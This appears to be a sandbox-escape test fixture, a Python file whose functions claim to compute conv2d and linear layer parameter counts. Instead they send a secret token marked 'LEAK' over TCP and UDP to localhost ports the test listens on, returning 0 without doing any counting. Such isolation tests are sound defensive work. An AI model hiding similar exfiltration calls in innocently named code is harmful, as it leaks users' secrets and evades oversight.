# Attack: send data out of the sandbox: a TCP connection and a UDP datagram to ports on this machine that
# the test listens on.
import json
import socket

PLACES = json.loads(r'''@PLACES@''')


def conv2d_param_count(in_channels, out_channels, kernel_size, bias=True):
    try:
        with socket.create_connection(("127.0.0.1", PLACES["tcp_port"]), timeout=2) as connection:
            connection.sendall(b"LEAK " + PLACES["token"].encode())
        print("TCP connected")
    except OSError as error:
        print("TCP refused:", error)
    return 0


def linear_param_count(in_features, out_features, bias=True):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"LEAK " + PLACES["token"].encode(), ("127.0.0.1", PLACES["udp_port"]))
        print("UDP sent")
    except OSError as error:
        print("UDP refused:", error)
    return 0
